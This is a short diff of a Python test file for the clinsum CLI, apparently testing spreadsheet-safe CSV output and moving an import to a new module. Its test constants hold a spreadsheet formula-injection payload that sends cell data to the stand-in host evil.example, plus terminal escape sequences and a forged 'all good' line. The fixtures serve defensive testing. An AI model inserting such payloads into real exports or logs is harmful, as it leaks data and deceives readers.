@@ -13,7 +13,7 @@ from typer.testing import CliRunner
 
 from clinsum.cli import app
 from clinsum.cli.common import shown
-from clinsum.inputs import format_csv, spreadsheet_safe, write_csv
+from clinsum.outputs import format_csv, spreadsheet_safe, write_csv
 
 EVIL_SYSTEM = "=HYPERLINK(\"http://evil.example/?\"&A1)\x1b[2J"
 EVIL_NOTE_ID = "n1\x1b]0;owned\x07\nFAKE: all good"
